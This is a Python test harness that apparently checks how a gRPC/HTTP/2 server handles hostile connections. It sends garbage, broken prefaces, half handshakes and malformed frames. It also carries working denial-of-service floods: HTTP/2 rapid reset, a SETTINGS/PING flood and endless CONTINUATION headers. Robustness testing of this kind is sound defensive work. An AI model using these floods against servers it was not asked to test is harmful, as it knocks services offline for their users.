"""What is no gRPC at all, on the socket: garbage, half handshakes, floods of HTTP/2 frames.

Each attack opens so many connections and says how each ended: `closed` by the server within the
time, `open` still. HTTP/2 frames after RFC 9113.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, HEADERS, RST_STREAM, WINDOW_UPDATE, CONTINUATION = 4, 6, 1, 3, 8, 9
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
# HPACK without a table: POST http /x, and an authority; enough for the transport to open a stream.
_REQUEST: Final = b"\x83\x86\x04\x02/x\x01\x01a\x0f\x10\x10application/grpc\x0f\x2b\x08trailers"
Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, random.Random], Awaitable[None]]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


async def garbage(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, rng: random.Random
) -> None:
    """Send noise."""
    writer.write(rng.randbytes(rng.randrange(24, 2_000)))


async def http_1(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _rng: random.Random
) -> None:
    """Speak HTTP/1.1."""
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")


async def bad_preface(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _rng: random.Random
) -> None:
    """Begin as HTTP/2 does and go on as it does not."""
    writer.write(PREFACE[:-3] + b"XX\r\n" + frame(SETTINGS, 0, 0, b""))


async def bad_frames(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, rng: random.Random
) -> None:
    """A right preface, then frames of no kind and of wrong lengths."""
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b"\x00"))
    for _ in range(5):
        writer.write(frame(rng.randrange(256), rng.randrange(256), rng.randrange(9), b"\xff" * 9))


async def silent(
    _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter, _rng: random.Random
) -> None:
    """Connect and say nothing."""


async def half_handshake(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, rng: random.Random
) -> None:
    """Send a part of the preface and no more."""
    writer.write(PREFACE[: rng.randrange(1, len(PREFACE))])


async def rapid_reset(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _rng: random.Random
) -> None:
    """Open two hundred streams and take each back at once."""
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
    for stream in range(1, 401, 2):
        writer.write(frame(HEADERS, _END_HEADERS, stream, _REQUEST))
        writer.write(frame(RST_STREAM, 0, stream, _CANCEL))


async def settings_flood(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _rng: random.Random
) -> None:
    """Change the settings and ping, a thousand times."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) + frame(PING, 0, 0, b"12345678")
    writer.write(PREFACE + one * 500)


async def endless_headers(
    _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _rng: random.Random
) -> None:
    """Begin headers and continue them without an end."""
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 0, 1, _REQUEST))
    for _ in range(50):
        writer.write(frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x81\x7f" + b"a" * 1_000))


ATTACKS: Final[dict[str, Attack]] = {
    "garbage": garbage,
    "http/1.1": http_1,
    "bad preface": bad_preface,
    "bad frames": bad_frames,
    "silent": silent,
    "half handshake": half_handshake,
    "rapid reset": rapid_reset,
    "settings flood": settings_flood,
    "endless headers": endless_headers,
}


async def attack(
    address: str, name: str, count: int, *, seed: int, at_once: int = 50, wait: float = 6.0
) -> Counter[str]:
    """Make so many connections with an attack; return how they ended."""
    host, _, port = address.rpartition(":")
    rng, ends = random.Random(seed), Counter[str]()
    room = asyncio.Semaphore(at_once)

    async def one() -> None:
        async with room:
            reader, writer = await asyncio.open_connection(host, int(port))
            try:
                with contextlib.suppress(ConnectionError):
                    await ATTACKS[name](reader, writer, rng)
                    await writer.drain()
                ends[f"{name} {await _end(reader, wait)}"] += 1
            finally:
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(count)))
    return ends


async def _end(reader: asyncio.StreamReader, wait: float) -> str:
    try:
        async with asyncio.timeout(wait):
            while await reader.read(65_536):
                pass
    except TimeoutError:
        return "open"
    except ConnectionError:
        return "closed"
    return "closed"
